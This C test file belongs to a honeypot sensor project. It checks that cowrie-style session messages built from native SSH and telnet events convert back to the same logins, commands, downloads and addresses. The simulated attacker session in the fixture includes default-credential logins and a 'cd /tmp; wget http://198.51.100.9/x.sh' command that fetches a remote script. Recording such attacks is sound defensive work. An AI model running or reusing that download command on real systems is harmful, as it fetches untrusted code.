/* sensor/mhn_compat.c: the cowrie.sessions message built from a session's
 * native events carries cowrie's field set, and Apiary's own
 * cowrie.sessions adapter turns it back into the same logins, commands,
 * client version, downloads and addresses as the native events. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "adapters.h"
#include "ap/event.h"
#include "harness.h"
#include "mhn_compat.h"
#include "ap/common.h"

static json_t *
native(enum ap_event_type t, int64_t ts)
{
    json_t *ev = ap_event_new(t, "s1", "ssh", ts);

    ap_event_set_str(ev, "session", "01JDQ8Z8K3M4N5P6Q7R8S9T0VW");
    ap_event_set_addr(ev, "::ffff:203.0.113.47", 50001, "198.51.100.17", 22);
    ap_event_set_str(ev, "transport", "tcp");
    ap_event_set_str(ev, "protocol", "ssh");
    return ev;
}

static void
login(json_t *evs, const char *u, const char *p, int ok, int64_t ts)
{
    json_t *ev = native(AP_EV_LOGIN, ts);
    ap_event_set_str(ev, "username", u);
    ap_event_set_str(ev, "password", p);
    ap_event_set_bool(ev, "success", ok);
    ap_event_set_str(ev, "method", "password");
    json_array_append_new(evs, ev);
}

static void
command(json_t *evs, const char *c, int known, int64_t ts)
{
    json_t *ev = native(AP_EV_COMMAND, ts);
    ap_event_set_str(ev, "command", c);
    ap_event_set_bool(ev, "known", known);
    json_array_append_new(evs, ev);
}

/* What both sides must agree on, one line per fact, in event order per
 * kind (the adapter groups by kind). */
static void
project(const json_t *evs, const char *kind, char *out, size_t len)
{
    const json_t *ev;
    size_t i, o = 0;

    out[0] = '\0';
    json_array_foreach(evs, i, ev)
    {
        const char *t = json_string_value(json_object_get(ev, "type"));
        char line[512] = "";
        if (strcmp(kind, "login") == 0 && strcmp(t, "login") == 0)
            snprintf(line, sizeof(line), "%s/%s/%d",
                     json_string_value(json_object_get(ev, "username")),
                     json_string_value(json_object_get(ev, "password")),
                     json_is_true(json_object_get(ev, "success")));
        else if (strcmp(kind, "command") == 0 && strcmp(t, "command") == 0)
            snprintf(line, sizeof(line), "%s/%d",
                     json_string_value(json_object_get(ev, "command")),
                     json_is_true(json_object_get(ev, "known")));
        else if (strcmp(kind, "url") == 0 && strcmp(t, "download") == 0 &&
                 json_object_get(ev, "url"))
            snprintf(line, sizeof(line), "%s",
                     json_string_value(json_object_get(ev, "url")));
        else if (strcmp(kind, "hash") == 0 &&
                 (strcmp(t, "download") == 0 || strcmp(t, "upload") == 0) &&
                 json_object_get(ev, "sha256"))
            snprintf(line, sizeof(line), "%s",
                     json_string_value(json_object_get(ev, "sha256")));
        else if (strcmp(kind, "version") == 0 && strcmp(t, "fingerprint") == 0 &&
                 json_object_get(ev, "client_version"))
            snprintf(line, sizeof(line), "%s",
                     json_string_value(json_object_get(ev, "client_version")));
        else if (strcmp(kind, "where") == 0)
            snprintf(line, sizeof(line), "%s/%s:%lld>%s:%lld/%s",
                     json_string_value(json_object_get(ev, "session")),
                     json_string_value(json_object_get(ev, "src_ip")),
                     json_integer_value(json_object_get(ev, "src_port")),
                     json_string_value(json_object_get(ev, "dst_ip")),
                     json_integer_value(json_object_get(ev, "dst_port")),
                     json_string_value(json_object_get(ev, "protocol")));
        if (line[0] && (strcmp(kind, "where") != 0 || i == 0))
            o += (size_t)snprintf(out + o, len - o, "%s\n", line);
        if (o >= len)
            return;
    }
}

TEST(round_trip_through_the_cowrie_adapter)
{
    int64_t t0 = 1764400000000000LL;
    json_t *evs = json_array(), *acc = mhn_compat_new(), *msg, *out = NULL, *ev;
    char *text, err[256], a[4096], b[4096];
    const char *kinds[] = {"login", "command", "url", "hash", "version",
                           "where"};
    struct ap_adapt_in in;
    size_t i;

    json_array_append_new(evs, native(AP_EV_CONNECT, t0));
    ev = native(AP_EV_FINGERPRINT, t0 + 1000);
    ap_event_set_str(ev, "client_version", "SSH-2.0-OpenSSH_9.2p1 Debian-2");
    ap_event_set_str(ev, "hassh", "0123456789abcdef0123456789abcdef");
    json_array_append_new(evs, ev);
    login(evs, "root", "123456", 0, t0 + 2000);
    login(evs, "admin", "", 0, t0 + 3000);
    login(evs, "root", "toor", 1, t0 + 4000);
    command(evs, "uname -a", 1, t0 + 5000);
    command(evs, "nosuchcmd --x", 0, t0 + 6000);
    command(evs, "cd /tmp; wget http://198.51.100.9/x.sh", 1, t0 + 7000);
    ev = native(AP_EV_DOWNLOAD, t0 + 7001);
    ap_event_set_str(ev, "url", "http://198.51.100.9/x.sh");
    json_array_append_new(evs, ev);
    ev = native(AP_EV_UPLOAD, t0 + 8000);
    ap_event_set_str(ev, "filename", "a.bin");
    ap_event_set_str(ev, "sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    ap_event_set_int(ev, "size", 4);
    json_array_append_new(evs, ev);
    json_array_foreach(evs, i, ev) mhn_compat_observe(acc, ev);
    msg = mhn_compat_finish(acc, "2025-11-29T07:06:50.000000Z");
    json_decref(acc);

    /* cowrie's field set, exactly */
    ASSERT_EQ(json_object_size(msg), 16);
    ASSERT_STR_EQ(json_string_value(json_object_get(msg, "peerIP")),
                  "203.0.113.47");
    ASSERT_EQ(json_integer_value(json_object_get(msg, "hostPort")), 22);
    ASSERT_STR_EQ(json_string_value(json_object_get(msg, "protocol")), "ssh");
    ASSERT(json_is_null(json_object_get(msg, "ttylog")));
    ASSERT_EQ(json_array_size(json_object_get(msg, "credentials")), 2);
    ASSERT_STR_EQ(json_string_value(json_array_get(
                      json_object_get(msg, "loggedin"), 1)),
                  "toor");
    ASSERT_EQ(json_array_size(json_object_get(msg, "commands")), 3);
    ASSERT_EQ(json_array_size(json_object_get(msg, "unknownCommands")), 1);
    ASSERT_STR_EQ(json_string_value(json_object_get(msg, "startTime")),
                  json_string_value(json_object_get(json_array_get(evs, 0),
                                                    "ts")));

    text = json_dumps(msg, JSON_COMPACT);
    memset(&in, 0, sizeof(in));
    in.channel = MHN_COMPAT_CHANNEL;
    in.ident = "s1";
    in.payload = (const uint8_t *)text;
    in.len = strlen(text);
    in.rx_us = t0 + 9000000;
    ASSERT_EQ(ap_adapt(&in, &out, err, sizeof(err)), 0);
    for (i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
        project(evs, kinds[i], a, sizeof(a));
        project(out, kinds[i], b, sizeof(b));
        if (strcmp(a, b) != 0)
            TH_FAIL("%s: native\n%s\nadapted\n%s", kinds[i], a, b);
        ASSERT(a[0] != '\0');
    }
    /* the adapted session spans the native one */
    ASSERT_STR_EQ(json_string_value(json_object_get(
                      json_array_get(out, json_array_size(out) - 1), "type")),
                  "disconnect");
    free(text);
    json_decref(out);
    json_decref(msg);
    json_decref(evs);
}

TEST(telnet_session_without_login)
{
    json_t *acc = mhn_compat_new(), *ev = ap_event_new(AP_EV_CONNECT, "s1",
                                                       "telnet", 0),
           *msg;

    ap_event_set_str(ev, "protocol", "telnet");
    ap_event_set_addr(ev, "198.51.100.1", 4000, "198.51.100.2", 23);
    mhn_compat_observe(acc, ev);
    msg = mhn_compat_finish(acc, "2025-11-29T07:06:50.000000Z");
    ASSERT(json_is_null(json_object_get(msg, "loggedin")));
    ASSERT(json_is_null(json_object_get(msg, "version")));
    ASSERT_STR_EQ(json_string_value(json_object_get(msg, "protocol")),
                  "telnet");
    json_decref(ev);
    json_decref(msg);
    json_decref(acc);
}

int
main(void)
{
    RUN(round_trip_through_the_cowrie_adapter);
    RUN(telnet_session_without_login);
    return DONE();
}
